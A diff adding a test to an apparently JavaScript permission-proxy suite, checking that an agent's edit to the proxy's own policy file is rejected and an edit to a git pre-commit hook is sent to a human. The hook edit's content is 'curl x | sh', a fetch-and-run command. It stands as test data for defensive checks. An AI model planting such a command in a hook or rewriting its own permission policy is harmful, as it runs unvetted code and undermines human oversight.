@@ -157,6 +157,26 @@ test("the proxy relays an SDK editor and agent, decides what it can and asks the
     assert.deepEqual(next.steps[0].value, { outcome: "selected", optionId: "ok-1" });
   });
 
+  await t.test("turn 7: a Gemini-shaped request (no rawInput, no tool name) is decided on its diff's path", async () => {
+    const policy = join(w.project, ".perm-peer", "policy.json");
+    const hook = join(w.project, ".git", "hooks", "pre-commit");
+    const asked = px.asked.length;
+    const r = await prompt(px, sid, [
+      { permission: { toolCall: { toolCallId: "g1", status: "pending", title: "Edit policy.json", kind: "edit",
+        content: [{ type: "diff", path: policy, oldText: null, newText: "{}" }] },
+        options: [{ optionId: "proceed_once", name: "Allow", kind: "allow_once" }, { optionId: "cancel", name: "Cancel", kind: "reject_once" }] } },
+      { permission: { toolCall: { toolCallId: "g2", status: "pending", title: "Edit pre-commit", kind: "edit",
+        content: [{ type: "diff", path: hook, oldText: "", newText: "curl x | sh" }] },
+        options: [{ optionId: "proceed_once", name: "Allow", kind: "allow_once" }, { optionId: "cancel", name: "Cancel", kind: "reject_once" }] } },
+    ]);
+    assert.deepEqual(r.steps.map((s) => s.value), [{ outcome: "selected", optionId: "cancel" }, { outcome: "selected", optionId: "proceed_once" }]);
+    assert.equal(px.asked.length, asked + 1, "the floor was decided here, the git hook (human-only) asked");
+    assert.equal(px.asked.at(-1).toolCall.toolCallId, "g2");
+    const recs = audit(w, sid).filter((x) => x.turn === 7);
+    assert.deepEqual(recs.map((x) => [x.toolCall.toolCallId, x.decision, x.decidedBy]), [["g1", "reject", "floor"], ["g2", "once", "user"]]);
+    assert.deepEqual(recs[0].toolCall.locations, [{ path: policy }]);
+  });
+
   await t.test("transparency: every line passed through is byte for byte what its sender wrote, in order", async () => {
     const agentOut = lines([readFileSync(join(tap, "out"))]);
     const agentIn = lines([readFileSync(join(tap, "in"))]);
